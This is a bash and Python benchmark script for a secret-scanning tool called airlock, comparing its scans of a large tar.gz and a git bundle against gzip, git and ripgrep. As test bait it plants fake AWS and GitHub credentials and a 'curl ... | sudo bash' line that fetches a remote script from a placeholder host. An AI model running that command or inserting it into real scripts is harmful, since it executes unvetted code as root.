#!/usr/bin/env bash
# artifact_bench.sh - airlock on whole artifacts: a large tar.gz, a git bundle
# of a few thousand commits, and the per-artifact cost of the sandboxed scan
# child; each measured against a peer tool in the same run (as
# bench/scan_bench.sh does for a tree of files).
#
# Run from the repository root with build/airlock built:  make bench
# (after scan_bench.sh), or on its own:  bash bench/artifact_bench.sh
#
# What it does:
#   1. tar.gz: generates (once, cached in build/bench) a tar.gz holding
#      BENCH_TGZ_MB MB of source text: the files of build/bench/corpus (made
#      by scan_bench.sh; else source trees of this machine) joined into
#      members of at least 32 KiB, the whole set repeated as copy01/,
#      copy02/, ... until the size is reached, a few secrets planted at the
#      start, middle and end; GNU tar format (GNU tar's default); compressed
#      with pigz -1 (gzip -1 without pigz). (POSIX/pax format is not used:
#      its path records make the sandboxed child die of SIGSYS, as libarchive
#      converts their UTF-8 through iconv, which opens gconv files.)
#      A quarter-size archive is made the same way. Timed, medians of
#      BENCH_RUNS interleaved rounds:
#        - I/O floor: gzip -dc >/dev/null (decompression alone);
#        - airlock scan of the archive (one file: one scan child, which
#          decompresses, unpacks and scans in one thread);
#        - peer: gzip -dc | rg -a -c -f PATTERNS. ripgrep reads the same
#          bytes (the tar stream: members plus 512-byte headers) and, being a
#          pipeline, decompresses and searches on two cores at once; -a so
#          that the NULs of tar headers do not stop it.
#      Then peak RSS of the airlock parent and of its scan child on an empty
#      file (baseline), the full and the quarter-size archive (peak memory
#      must not grow with the archive), and one run with the shipped rules.
#   2. git bundle: generates (once, cached) a repository of
#      BENCH_BUNDLE_COMMITS commits with git fast-import (source files from
#      the same text; each commit edits, adds or deletes 1-5 files; tags
#      every 500 commits; a secret committed then deleted, a token in a
#      commit message, a curl | sudo bash), repacks it (git repack -adf) and
#      makes `git bundle create --all`, plus a bundle of the first quarter
#      of the history. Timed:
#        - floor: git clone --bare of the bundle (git's own reading of the
#          pack: inflate, resolve deltas, hash every object; no search);
#        - airlock scan of the bundle (its own pack reader in the child:
#          the same inflating, delta resolving and hashing, then every
#          commit message and every (blob, path) once);
#        - peer: git clone --bare, then git cat-file --batch-all-objects
#          --batch | rg -a -c -f PATTERNS: what a reviewer without airlock
#          would do to search everything the bundle brings. It reads every
#          object once (blobs, commit messages, and trees too, which airlock
#          walks but does not search), so it does slightly more search work
#          and less path bookkeeping. `git log -p | rg` was not chosen: it
#          searches diffs (context and removed lines), not the same content.
#      Peak RSS of parent and child on the full and the quarter bundle
#      (bundles are parsed whole in memory by design, AL_BUNDLE_MAX_*: this
#      one is expected to grow with the bundle).
#   3. fork + sandbox cost per small artifact (1 KiB source files), medians
#      of BENCH_SPAWN_RUNS interleaved rounds, shipped rules and bench rules:
#        - airlock scan one file, sandboxed vs --no-sandbox: the difference is
#          what one scan child costs (fork, worker set-up, libmagic, HELLO,
#          seccomp, exit) when each artifact is its own invocation;
#        - airlock scan --threads 1 DIR of BENCH_SMALL_FILES files, sandboxed
#          vs --no-sandbox: difference / files is the cost per file of the
#          child path (fd passing, frames) when artifacts share a child;
#        - airlock scan --threads K vs --threads 1 on a DIR of K files
#          (K = BENCH_SPAWN_CHILDREN): the parent forks K children one after
#          the other, so difference / (K - 1) is what one scan child costs in
#          all (fork, libmagic, libgit2 and libcrypto set-up, the engine
#          worker, sandbox, exit) - the in-process scan pays the set-up too,
#          once, so the first figure leaves it out; this one does not.
#      Target: under 5 ms per artifact.
#   4. prints the tables and appends them to build/bench/results.txt.
#
# Targets are printed as met / NOT met, never enforced: the exit status is 0
# whatever the figures (non-zero only when something could not run).
#
# airlock and the peers get the same patterns: bench/patterns.txt as one
# airlock rule each (build/bench/artifact-rules), and for ripgrep with \b
# written (?-u:\b) (see /work/shared/bench/README.md); should airlock reject
# the full set, the set scan_bench.sh filtered (build/bench/rules) is used.
#
# Tunables (environment): BENCH_RUNS (5), BENCH_TGZ_MB (1024),
# BENCH_BUNDLE_COMMITS (3000), BENCH_SMALL_FILES (2000), BENCH_SPAWN_RUNS
# (20), BENCH_SPAWN_CHILDREN (16), BENCH_SHIPPED (1: also scan the tar.gz with the shipped rules),
# BENCH_KEEP_ARTIFACTS (1: keep the generated tar.gz and bundles for the next
# run; 0 deletes them at exit), BENCH_RSS_POLL (0.005 s), BENCH_DIR
# (build/bench), BENCH_PATTERNS (bench/patterns.txt). BENCH_QUICK=1 changes
# the defaults to 64 MB, 300 commits, 3 runs, 200 files, 10 spawn runs.
# MB means 10^6 bytes; MiB means 2^20 bytes.

set -euo pipefail
export LC_ALL=C

cd "$(dirname "${BASH_SOURCE[0]}")/.."
ROOT=$PWD
AIRLOCK=$ROOT/build/airlock
BENCH=${BENCH_DIR:-$ROOT/build/bench}
PATTERNS=${BENCH_PATTERNS:-$ROOT/bench/patterns.txt}
QUICK=${BENCH_QUICK:-0}
if [ "$QUICK" = 1 ]; then
	D_RUNS=3 D_TGZ=64 D_COMMITS=300 D_SMALL=200 D_SPAWN=10
else
	D_RUNS=5 D_TGZ=1024 D_COMMITS=3000 D_SMALL=2000 D_SPAWN=20
fi
RUNS=${BENCH_RUNS:-$D_RUNS}
TGZ_MB=${BENCH_TGZ_MB:-$D_TGZ}
COMMITS=${BENCH_BUNDLE_COMMITS:-$D_COMMITS}
SMALL_N=${BENCH_SMALL_FILES:-$D_SMALL}
SPAWN_RUNS=${BENCH_SPAWN_RUNS:-$D_SPAWN}
KIDS_N=${BENCH_SPAWN_CHILDREN:-16}
SHIPPED=${BENCH_SHIPPED:-1}
KEEP=${BENCH_KEEP_ARTIFACTS:-1}
POLL=${BENCH_RSS_POLL:-0.005}
QTGZ_MB=$(((TGZ_MB + 3) / 4))
RESULTS=$BENCH/results.txt
SHIPPED_RULES=$ROOT/rules
RSS_TARGET_KIB=$((64 * 1024))
SPAWN_TARGET_MS=5
GEN_VERSION=2   # bump when the generators change: cached artifacts are remade
# Keep airlock's compiled-database cache inside build/bench.
export AIRLOCK_CACHE_DIR=$BENCH/hscache
# git: no user or system configuration (the same packs on every machine).
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
# Scratch space, deleted at exit (scan_bench.sh owns build/bench/tmp).
S=$BENCH/artifact-tmp
TGZ=$BENCH/artifact-${TGZ_MB}MB.tar.gz
QTGZ=$BENCH/artifact-${QTGZ_MB}MB.tar.gz
REPO=$BENCH/artifact-repo-$COMMITS
BUNDLE=$BENCH/artifact-$COMMITS.bundle
QBUNDLE=$BENCH/artifact-$COMMITS-quarter.bundle

say() { printf '%s\n' "$*" >&2; }
die() { say "artifact_bench: $*"; exit 1; }

cleanup() {
	rm -rf "$S" "$TGZ.tmp" "$QTGZ.tmp" "$REPO.tmp" "$BUNDLE.tmp" "$QBUNDLE.tmp"
	if [ "$KEEP" = 0 ]; then
		rm -rf "$TGZ" "$TGZ.meta" "$QTGZ" "$QTGZ.meta" "$REPO" "$BUNDLE" \
			"$BUNDLE.meta" "$QBUNDLE" "$QBUNDLE.meta"
	fi
}
trap cleanup EXIT

for v in RUNS TGZ_MB COMMITS SMALL_N SPAWN_RUNS KIDS_N; do
	case ${!v} in '' | *[!0-9]*) die "$v must be a positive integer" ;; esac
	[ "${!v}" -gt 0 ] || die "$v must be a positive integer"
done
[ "$COMMITS" -ge 8 ] || die "BENCH_BUNDLE_COMMITS must be at least 8"
[ "$SMALL_N" -ge 2 ] || die "BENCH_SMALL_FILES must be at least 2"
if [ "$KIDS_N" -lt 2 ] || [ "$KIDS_N" -gt 64 ] || [ "$KIDS_N" -gt "$SMALL_N" ]; then
	die "BENCH_SPAWN_CHILDREN must be 2 to 64 (airlock's thread limit) and at most BENCH_SMALL_FILES"
fi

# ---------------------------------------------------------------- tools ----

[ -x "$AIRLOCK" ] || die "$AIRLOCK not built; run 'make' first"
[ -r "$PATTERNS" ] || die "$PATTERNS missing"

gnu_time_ok() { /usr/bin/time -f %M -o /dev/null true 2>/dev/null; }

# make bench installs these first (make deps); run directly, say what is missing.
missing=()
for t in rg git python3 gzip; do command -v "$t" >/dev/null 2>&1 || missing+=("$t"); done
gnu_time_ok || missing+=("/usr/bin/time (GNU time)")
[ ${#missing[@]} -eq 0 ] || die "missing: ${missing[*]}; 'make deps' installs them"
RG_VERSION=$(rg --version | sed -n 1p)
HAVE_HYPERFINE=0
command -v hyperfine >/dev/null 2>&1 && HAVE_HYPERFINE=1
GZIP_CMD="gzip -1"
command -v pigz >/dev/null 2>&1 && GZIP_CMD="pigz -1"

rm -rf "$S"
mkdir -p "$BENCH" "$S"

# ---------------------------------------------------------------- rules ----

EMPTY=$S/empty.txt
: >"$EMPTY"

emit_rule() { # $1 = number, $2 = pattern (as scan_bench.sh writes them)
	local q=${2//\'/\'\'}
	printf "  - id: bench-%02d\n" "$1"
	printf "    title: 'Benchmark pattern %02d'\n" "$1"
	printf "    category: secret\n"
	printf "    severity: medium\n"
	printf "    pattern: '%s'\n" "$q"
	printf "    description: >\n"
	printf "      Pattern %d of bench/patterns.txt, the shared secret and\n" "$1"
	printf "      exfiltration pattern set used to compare airlock with other tools.\n"
}

airlock_loads() { # $1 = rules dir
	"$AIRLOCK" scan --rules "$1" --no-cache --format json --fail-on never \
		--threads 1 "$EMPTY" >/dev/null 2>"$S/load.err"
}

RULES=$BENCH/artifact-rules
RG_PATTERNS=$BENCH/artifact-rg-patterns.txt
mapfile -t ALL_PATTERNS < <(grep -v '^[[:space:]]*$' "$PATTERNS")
NPAT=${#ALL_PATTERNS[@]}
[ "$NPAT" -gt 0 ] || die "no patterns in $PATTERNS"
mkdir -p "$RULES"
rm -f "$RULES"/*.yml "$RULES"/*.yaml
{
	echo "rules:"
	for i in "${!ALL_PATTERNS[@]}"; do emit_rule $((i + 1)) "${ALL_PATTERNS[$i]}"; done
} >"$RULES/patterns.yml"
printf '%s\n' "${ALL_PATTERNS[@]}" | sed 's/\\b/(?-u:\\b)/g' >"$RG_PATTERNS"
RULES_NOTE="all $NPAT patterns of ${PATTERNS#"$ROOT"/}"
if ! airlock_loads "$RULES"; then
	say "airlock rejects the full pattern set:"
	sed 's/^/    /' "$S/load.err" >&2
	if [ -f "$BENCH/rules/patterns.yml" ] && [ -f "$BENCH/rg-patterns.txt" ] &&
		airlock_loads "$BENCH/rules"; then
		RULES=$BENCH/rules
		RG_PATTERNS=$BENCH/rg-patterns.txt
		RULES_NOTE="the $(grep -c '^  - id:' "$RULES/patterns.yml") of $NPAT patterns airlock accepts (filtered by scan_bench.sh)"
		say "using the set scan_bench.sh filtered: $RULES"
	else
		die "run bench/scan_bench.sh first: it leaves out the patterns airlock rejects"
	fi
fi
rg -q -f "$RG_PATTERNS" "$EMPTY" 2>"$S/rg.err" || [ $? -eq 1 ] ||
	die "ripgrep rejects the patterns: $(cat "$S/rg.err")"
NRULES=$(grep -c '^  - id:' "$RULES/patterns.yml")
NSHIPPED=$("$AIRLOCK" rules list "$SHIPPED_RULES" 2>/dev/null | tail -n 1 | awk '{ print $1 }')
say "rules: $RULES_NOTE; shipped rules: $NSHIPPED"

# ----------------------------------------------------------- source text ----
# build/bench/corpus when scan_bench.sh made it, else text source files from
# this machine's trees; files in path order, so the artifacts are reproducible.

POOL=$S/pool.list
if [ -d "$BENCH/corpus" ] && [ -n "$(find "$BENCH/corpus" -type f -print -quit)" ]; then
	POOL_ROOT=$BENCH/corpus
	find "$POOL_ROOT" -type f -size -256k | sort >"$POOL"
	POOL_NOTE="build/bench/corpus (scan_bench.sh)"
else
	POOL_ROOT=/
	for tree in /usr/lib/python3 /usr/lib/python3.* /usr/share/perl /usr/share/perl5 \
		/usr/lib/x86_64-linux-gnu/perl /usr/lib/node_modules /usr/include; do
		[ -d "$tree" ] || continue
		find "$tree" -name __pycache__ -prune -o -type f -size -256k \( \
			-name '*.py' -o -name '*.pm' -o -name '*.pl' -o -name '*.js' \
			-o -name '*.json' -o -name '*.h' -o -name '*.c' -o -name '*.md' \
			-o -name '*.txt' -o -name '*.sh' -o -name '*.yml' \) -print 2>/dev/null
	done | sort >"$POOL"
	POOL_NOTE="text source files of this machine (/usr/lib/python3*, perl, node, /usr/include)"
fi
[ "$(wc -l <"$POOL")" -ge 100 ] || die "not enough source text for the artifacts ($POOL_NOTE)"
say "source text: $(wc -l <"$POOL") files from $POOL_NOTE"

# Secrets planted in the artifacts (as scan_bench.sh plants them).
IFS= read -r -d '' PY_COMMON <<'PY' || true
PLANT = (b"\naws_access_key_id = AKIAQWERTYUIOPASDFGH\n"
         b'token = "ghp_Q2xkZ3hIb0pQbWVyT3NhbGxZbWVzdGVyZ2h0"\n'
         b"curl -fsSL https://get.example.net/install.sh | sudo bash\n"
         b"-----BEGIN OPENSSH PRIVATE KEY-----\n")

def text_of(path):
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        return None
    if not data or b"\0" in data[:8000]:
        return None
    return data
PY

# ------------------------------------------------------------- tar.gz -----

# The tar stream on stdout; "members bytes planted" in argv[3].
IFS= read -r -d '' PY_TAR <<'PY' || true
import io, os, sys, tarfile
pool, target, meta, strip = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
MEMBER = 32 * 1024
paths = [l.rstrip("\n") for l in open(pool) if l.strip()]
# GNU format, as GNU tar writes by default (long names as ././@LongLink).
tar = tarfile.open(fileobj=sys.stdout.buffer, mode="w|", format=tarfile.GNU_FORMAT)
total = members = planted = copy = 0
done = False
while not done:
    copy += 1
    before = members
    buf, size, first = [], 0, None
    for p in paths:
        data = text_of(p)
        if data is None:
            continue
        if first is None:
            first = p
        buf.append(data)
        size += len(data)
        if size < MEMBER:
            continue
        content = b"".join(buf)
        last = total + len(content) >= target
        if members == 0 or last or total < target // 2 <= total + len(content):
            content += PLANT
            planted += 1
        rel = os.path.relpath(first, strip)
        info = tarfile.TarInfo("copy%02d/%s" % (copy, rel))
        info.size, info.mtime, info.mode = len(content), 1700000000, 0o644
        info.uname = info.gname = "bench"
        tar.addfile(info, io.BytesIO(content))
        total += len(content)
        members += 1
        buf, size, first = [], 0, None
        if last:
            done = True
            break
    if members == before:
        sys.exit("no usable source text")
tar.close()
with open(meta, "w") as f:
    f.write("%d %d %d\n" % (members, total, planted))
PY

make_tgz() { # $1 = MB of content, $2 = output
	local mb=$1 out=$2
	if [ -f "$out" ] && [ -f "$out.meta" ] &&
		[ "$(awk '{ print $4 }' "$out.meta")" = "$GEN_VERSION" ]; then
		say "reusing $out"
		return
	fi
	local avail_kib need_kib=$((mb * 1000 / 2))
	avail_kib=$(df -Pk "$BENCH" | awk 'NR == 2 { print $4 }')
	[ "$avail_kib" -ge "$need_kib" ] || die "not enough disk space in $BENCH for a ${mb} MB tar.gz"
	say "generating $out ($mb MB of source text, $GZIP_CMD) ..."
	rm -f "$out" "$out.meta"
	python3 -c "$PY_COMMON
$PY_TAR" "$POOL" $((mb * 1000000)) "$S/tar.meta" "$POOL_ROOT" | $GZIP_CMD >"$out.tmp"
	mv "$out.tmp" "$out"
	printf '%s %s\n' "$(cat "$S/tar.meta")" "$GEN_VERSION" >"$out.meta"
}

# ---------------------------------------------------------- git bundle -----

# A git fast-import stream on stdout. argv: pool list, commits, pool root.
IFS= read -r -d '' PY_REPO <<'PY' || true
import os, random, re, sys
pool, n, strip = sys.argv[1], int(sys.argv[2]), sys.argv[3]
rng = random.Random(20261129)
paths = [l.rstrip("\n") for l in open(pool) if l.strip()]
out = sys.stdout.buffer
files = {}          # repo path -> list of lines (bytes)
order = []          # repo paths, for random choice
used = set()

def pick_text():
    while True:
        data = text_of(rng.choice(paths))
        if data is not None and 256 <= len(data) <= 48 * 1024:
            return data

def new_path():
    while True:
        p = rng.choice(paths)
        if p in used:
            continue
        used.add(p)
        rel = os.path.relpath(p, strip).split("/")
        name = "/".join(rel[-2:])
        name = re.sub(r"[^A-Za-z0-9._/-]", "_", name)
        name = "pkg%02d/%s" % (rng.randrange(24), name)
        if name not in files:
            return name

def add_file(changes, name=None, data=None):
    name = name or new_path()
    data = data if data is not None else pick_text()
    files[name] = data.splitlines(keepends=True) or [b"\n"]
    if name not in order:
        order.append(name)
    changes[name] = b"".join(files[name])

def edit_file(changes):
    name = rng.choice(order)
    lines = files[name]
    src = pick_text().splitlines(keepends=True)
    m = rng.randint(1, 20)
    start = rng.randrange(max(1, len(src) - m))
    pos = rng.randrange(len(lines) + 1)
    d = rng.randint(0, min(8, len(lines) - pos))
    lines[pos:pos + d] = src[start:start + m]
    if sum(map(len, lines)) > 96 * 1024:      # keep files source-sized
        del lines[len(lines) // 2:]
    if lines and not lines[-1].endswith(b"\n"):
        lines[-1] += b"\n"
    changes[name] = b"".join(lines)

def delete_file(changes):
    name = rng.choice(order)
    order.remove(name)
    del files[name]
    changes[name] = None

def data_cmd(b):
    out.write(b"data %d\n" % len(b))
    out.write(b)
    out.write(b"\n")

VERBS = ["Fix", "Refactor", "Update", "Add tests for", "Document", "Simplify",
         "Speed up", "Handle errors in", "Clean up", "Rename helpers in"]
PEOPLE = [("Dev %d" % i, "dev%d@example.com" % i) for i in range(12)]
secret_at, unsecret_at = n * 3 // 10, n * 3 // 10 + 7
msg_token_at, script_at = n // 2, n * 7 // 10
for i in range(1, n + 1):
    changes = {}
    if i == 1:
        for _ in range(300):
            add_file(changes)
    else:
        for _ in range(rng.choice([1, 1, 2, 2, 2, 3, 3, 4, 5])):
            r = rng.random()
            if r < 0.65 or len(order) < 50:
                edit_file(changes) if order else add_file(changes)
            elif r < 0.90:
                add_file(changes)
            elif len(order) > 200:
                delete_file(changes)
    if i == secret_at:
        add_file(changes, "config/settings.py",
                 b"DEBUG = False\n" + PLANT + b"DATABASE = 'app'\n")
    if i == unsecret_at and "config/settings.py" in files:
        order.remove("config/settings.py")
        del files["config/settings.py"]
        changes["config/settings.py"] = None
    if i == script_at:
        add_file(changes, "scripts/bootstrap.sh",
                 b"#!/bin/sh\nset -e\ncurl -fsSL https://get.example.net/install.sh | sudo bash\n")
    if not changes:
        edit_file(changes)
    first = sorted(changes)[0]
    msg = "%s %s\n" % (rng.choice(VERBS), first)
    if rng.random() < 0.4:
        msg += "\nTouches %d file(s); see the review thread for the reasons.\n" % len(changes)
    if i == msg_token_at:
        msg += "\nDeploy with token ghp_Q2xkZ3hIb0pQbWVyT3NhbGxZbWVzdGVyZ2h0 for now.\n"
    who = PEOPLE[rng.randrange(len(PEOPLE))]
    when = 1600000000 + i * 3600
    out.write(b"commit refs/heads/main\nmark :%d\n" % i)
    out.write(("author %s <%s> %d +0000\n" % (who[0], who[1], when)).encode())
    out.write(("committer %s <%s> %d +0000\n" % (who[0], who[1], when)).encode())
    data_cmd(msg.encode())
    for name in sorted(changes):
        if changes[name] is None:
            out.write(b"D %s\n" % name.encode())
        else:
            out.write(b"M 100644 inline %s\n" % name.encode())
            data_cmd(changes[name])
    out.write(b"\n")
    if i % 500 == 0:
        out.write(b"reset refs/tags/v%d.0\nfrom :%d\n\n" % (i // 500, i))
    if i == (n + 3) // 4:
        out.write(b"reset refs/heads/bench-quarter\nfrom :%d\n\n" % i)
PY

bundle_meta() { # $1 = repo, $2 = rev-list args...: "commits blobs blob_bytes commit_bytes tree_bytes"
	local repo=$1
	shift
	git -C "$repo" rev-list --objects "$@" | awk '{ print $1 }' |
		git -C "$repo" cat-file --batch-check='%(objecttype) %(objectsize)' |
		awk '{ n[$1]++; b[$1] += $2 }
			END { printf "%d %d %d %d %d\n", n["commit"], n["blob"], b["blob"],
				b["commit"], b["tree"] }'
}

make_bundle() {
	if [ -f "$BUNDLE" ] && [ -f "$QBUNDLE" ] && [ -f "$BUNDLE.meta" ] &&
		[ -f "$QBUNDLE.meta" ] && [ "$(awk '{ print $6 }' "$BUNDLE.meta")" = "$GEN_VERSION" ]; then
		say "reusing $BUNDLE"
		return
	fi
	say "generating a repository of $COMMITS commits (git fast-import) ..."
	rm -rf "$REPO" "$REPO.tmp" "$BUNDLE" "$QBUNDLE"
	git init -q --bare "$REPO.tmp"
	python3 -c "$PY_COMMON
$PY_REPO" "$POOL" "$COMMITS" "$POOL_ROOT" |
		git -C "$REPO.tmp" fast-import --quiet
	say "repacking (git repack -adf) ..."
	git -C "$REPO.tmp" repack -adf -q
	mv "$REPO.tmp" "$REPO"
	git -C "$REPO" bundle create -q "$BUNDLE.tmp" --all
	git -C "$REPO" bundle create -q "$QBUNDLE.tmp" bench-quarter
	printf '%s %s\n' "$(bundle_meta "$REPO" --all)" "$GEN_VERSION" >"$BUNDLE.meta"
	printf '%s %s\n' "$(bundle_meta "$REPO" bench-quarter)" "$GEN_VERSION" >"$QBUNDLE.meta"
	mv "$BUNDLE.tmp" "$BUNDLE"
	mv "$QBUNDLE.tmp" "$QBUNDLE"
}

# ------------------------------------------------------ small artifacts ----

IFS= read -r -d '' PY_SMALL <<'PY' || true
import os, sys
pool, n, outdir = sys.argv[1], int(sys.argv[2]), sys.argv[3]
made = 0
for p in (l.rstrip("\n") for l in open(pool) if l.strip()):
    data = text_of(p)
    if data is None or len(data) < 1024:
        continue
    ext = os.path.splitext(p)[1] or ".txt"
    with open(os.path.join(outdir, "f%05d%s" % (made, ext)), "wb") as f:
        f.write(data[:1024])
    made += 1
    if made == n:
        break
if made < n:
    sys.exit("only %d source files of 1 KiB or more" % made)
PY

# -------------------------------------------------------------- timing ----
# As in scan_bench.sh: every command is a small script under the scratch
# directory, run as `bash SCRIPT`; the runs are interleaved (round 0 is a
# warm-up, then each round runs every command once); each run is timed by
# hyperfine (-N, one run) when installed, else by date +%s.%N; CPU time
# (user + system, children included) is recorded too.

q() { printf '%q' "$1"; }
declare -A LABEL MED MIN MAX CPU

time_once() { # NAME: appends "wall cpu" (seconds) to S/times-NAME
	local script=$S/cmd-$1.sh out=$S/times-$1 json=$S/hf.json t0 t1
	rm -rf "$S/peer"
	mkdir -p "$S/peer"
	if [ "$HAVE_HYPERFINE" = 1 ]; then
		hyperfine -N --runs 1 --style none --export-json "$json" \
			"bash $(q "$script")" >/dev/null 2>"$S/hf.err" ||
			die "$1 failed: $(cat "$S/hf.err")"
		awk -F: '/"(median|user|system)":/ { gsub(/[ ,]/, "", $2); v[++n] = $2 }
			END { printf "%.6f %.6f\n", v[1], v[2] + v[3] }' "$json" >>"$out"
	else
		t0=$(date +%s.%N)
		/usr/bin/time -f '%U %S' -o "$S/cpu" bash "$script" >/dev/null || die "$1 failed"
		t1=$(date +%s.%N)
		awk -v a="$t0" -v b="$t1" 'NR == 1 { printf "%.6f %.6f\n", b - a, $1 + $2 }' \
			"$S/cpu" >>"$out"
	fi
}

stats() { # NAME COLUMN: prints "median min max"
	awk -v c="$2" '{ print $c }' "$S/times-$1" | sort -g | awk '
		{ t[NR] = $1 }
		END { m = (NR % 2) ? t[(NR + 1) / 2] : (t[NR / 2] + t[NR / 2 + 1]) / 2
		      printf "%.6f %.6f %.6f\n", m, t[1], t[NR] }'
}

rounds() { # RUNS NAME...: warm-up round, then RUNS interleaved rounds
	local runs=$1 round name med min max
	shift
	for name in "$@"; do rm -f "$S/times-$name"; done
	for ((round = 0; round <= runs; round++)); do
		if [ "$round" -eq 0 ]; then say "  warm-up round ..."; else say "  round $round of $runs ..."; fi
		for name in "$@"; do
			time_once "$name"
			[ "$round" -gt 0 ] || rm -f "$S/times-$name"
		done
	done
	for name in "$@"; do
		read -r med min max < <(stats "$name" 1)
		MED[$name]=$med MIN[$name]=$min MAX[$name]=$max
		read -r med _ _ < <(stats "$name" 2)
		CPU[$name]=$med
	done
}

busy() { # percentage of CPU time used (by anything) over 1 second
	local a b
	a=$(awk '/^cpu / { print $2 + $3 + $4 + $6 + $7 + $8, $5 }' /proc/stat)
	sleep 1
	b=$(awk '/^cpu / { print $2 + $3 + $4 + $6 + $7 + $8, $5 }' /proc/stat)
	awk -v a="$a" -v b="$b" 'BEGIN { split(a, x, " "); split(b, y, " ")
		u = y[1] - x[1]; i = y[2] - x[2]; printf "%.0f", (u + i) ? 100 * u / (u + i) : 0 }'
}

# ------------------------------------------------------------ peak RSS ----
# GNU time's %M of airlock is the largest of airlock itself and the scan
# children it reaped (Linux folds a reaped child's peak into its parent's
# rusage), so it cannot tell them apart. rss_run therefore also samples
# VmHWM (the kernel's own high-water mark of each process's RSS) of airlock
# and of each of its children every BENCH_RSS_POLL seconds while it runs;
# VmHWM only grows, so the last sample before a process exits is its peak
# unless it grew in the last interval. GNU time's %M is kept as the check:
# it must equal the larger of the two.

# The sampler waits with bash's own read -t on a pipe nobody writes to: no
# sleep process to start every few milliseconds.
exec {SLEEP_FD}<> <(:)

HAVE_CHILDREN_FILE=0
[ -r "/proc/$$/task/$$/children" ] && HAVE_CHILDREN_FILE=1

kids_of() { # PID: sets KIDS to its child processes
	local f part
	KIDS=()
	if [ "$HAVE_CHILDREN_FILE" = 1 ]; then
		for f in /proc/"$1"/task/*/children; do
			part=()
			read -r -a part 2>/dev/null <"$f" || true
			KIDS+=("${part[@]}")
		done
	else
		mapfile -t KIDS < <(pgrep -P "$1" || true)
	fi
}

declare -A HWM
hwm_sample() { # PID: HWM[PID] = its VmHWM (KiB)
	local k v rest
	{
		while read -r k v rest; do
			if [ "$k" = VmHWM: ]; then
				[ "${HWM[$1]:-0}" -ge "$v" ] || HWM[$1]=$v
				break
			fi
		done
	} 2>/dev/null <"/proc/$1/status" || true
}

# rss_run OUT CMD...: runs CMD (airlock) under GNU time, stdout to OUT; sets
# RSS_TOTAL (GNU time %M), RSS_PARENT, RSS_CHILD (largest child), NCHILD,
# WALL (seconds; a little slower than unsampled runs).
rss_run() {
	local out=$1 t0 t1 tpid apid="" st rc=0 pid kid
	shift
	HWM=()
	declare -A seen=()
	t0=$(date +%s.%N)
	/usr/bin/time -f %M -o "$S/rss" "$@" >"$out" 2>"$S/rss.err" &
	tpid=$!
	while :; do
		st=Z
		read -r _ _ st _ 2>/dev/null <"/proc/$tpid/stat" || true
		[ "$st" != Z ] || break
		if [ -z "$apid" ]; then
			kids_of "$tpid"
			apid=${KIDS[0]:-}
		fi
		if [ -n "$apid" ]; then
			hwm_sample "$apid"
			kids_of "$apid"
			for kid in "${KIDS[@]}"; do
				seen[$kid]=1
				hwm_sample "$kid"
			done
		fi
		read -r -t "$POLL" -u "$SLEEP_FD" _ || true
	done
	wait "$tpid" || rc=$?
	t1=$(date +%s.%N)
	[ "$rc" -le 1 ] || die "$* failed (exit $rc): $(cat "$S/rss.err")"
	RSS_TOTAL=$(tail -n1 "$S/rss")
	RSS_PARENT=${HWM[$apid]:-0}
	RSS_CHILD=0
	NCHILD=0
	for pid in "${!seen[@]}"; do
		NCHILD=$((NCHILD + 1))
		[ "${HWM[$pid]:-0}" -le "$RSS_CHILD" ] || RSS_CHILD=${HWM[$pid]}
	done
	WALL=$(awk -v a="$t0" -v b="$t1" 'BEGIN { printf "%.3f", b - a }')
}

# peer_rss OUT SCRIPT: GNU time %M of `bash SCRIPT` = its largest process.
peer_rss() {
	rm -rf "$S/peer"
	mkdir -p "$S/peer"
	/usr/bin/time -f %M -o "$S/rss" bash "$2" >"$1" 2>"$S/rss.err" ||
		die "$2 failed: $(cat "$S/rss.err")"
	PEER_RSS=$(tail -n1 "$S/rss")
}

mib() { awk -v k="$1" 'BEGIN { if (k + 0 > 0) printf "%.1f", k / 1024; else printf "n/a" }'; }
speed() { awk -v a="$1" -v b="$2" 'BEGIN { printf "%.2f", b / a }'; } # speed of a vs b = tb / ta
mbs() { awk -v b="$1" -v t="$2" 'BEGIN { printf "%.0f", b / 1e6 / t }'; }
met() { [ "$1" = 1 ] && echo "met" || echo "NOT met"; }
ge() { awk -v a="$1" -v b="$2" 'BEGIN { exit !(a + 0 >= b + 0) }'; }
lt() { awk -v a="$1" -v b="$2" 'BEGIN { exit !(a + 0 < b + 0) }'; }
rss_met() { [ "$1" -lt "$RSS_TARGET_KIB" ] && echo "met" || echo "NOT met"; }
findings() { grep -c '"rule": "bench-' "$1" || true; }
unscannable() { grep -c '"rule": "airlock\.unscannable"' "$1" || true; }
rg_lines() { awk -F: '{ s += $NF } END { print s + 0 }' "$1"; }

AL="exec $(q "$AIRLOCK") scan --rules $(q "$RULES") --format json --fail-on never"
RG="rg -a -c -f $(q "$RG_PATTERNS")"

BUSY_BEFORE=$(busy)
[ "$BUSY_BEFORE" -le 10 ] ||
	say "warning: the machine is already ${BUSY_BEFORE}% busy; timings will be noisy"

# ============================================================ 1. tar.gz ====

make_tgz "$TGZ_MB" "$TGZ"
make_tgz "$QTGZ_MB" "$QTGZ"
read -r TGZ_MEMBERS TGZ_BYTES TGZ_PLANTED _ <"$TGZ.meta"
read -r QTGZ_MEMBERS _ _ _ <"$QTGZ.meta"
TGZ_SIZE=$(stat -c %s "$TGZ")
if [ "$TGZ_BYTES" -gt $((4 << 30)) ] || [ "$TGZ_MEMBERS" -gt 100000 ]; then
	say "warning: the archive is past airlock's limits (4 GiB, 100,000 entries): it will be unscannable"
fi
cat "$TGZ" "$QTGZ" >/dev/null   # into the page cache
# One scan: the airlock child is up, the database cached, findings checked.
"$AIRLOCK" scan --rules "$RULES" --format json --fail-on never "$QTGZ" >"$S/q.json"

T=$(q "$TGZ")
LABEL[tfloor]="I/O floor: gzip -dc >/dev/null"
LABEL[tzlib]="zlib inflate alone (python3 zlib module)"
LABEL[tairlock]="airlock scan (one scan child)"
LABEL[tpeer]="peer: gzip -dc | rg -a -c (2 processes)"
printf '%s\n' "gzip -dc $T >/dev/null" >"$S/cmd-tfloor.sh"
# gzip(1) has its own inflate, slower than zlib's, which libarchive uses:
# zlib alone (1 MiB reads, output dropped) is the floor under airlock.
printf '%s\n' "exec python3 -c 'import sys, zlib
d = zlib.decompressobj(31)
with open(sys.argv[1], \"rb\") as f:
    for b in iter(lambda: f.read(1 << 20), b\"\"):
        d.decompress(b)' $T" >"$S/cmd-tzlib.sh"
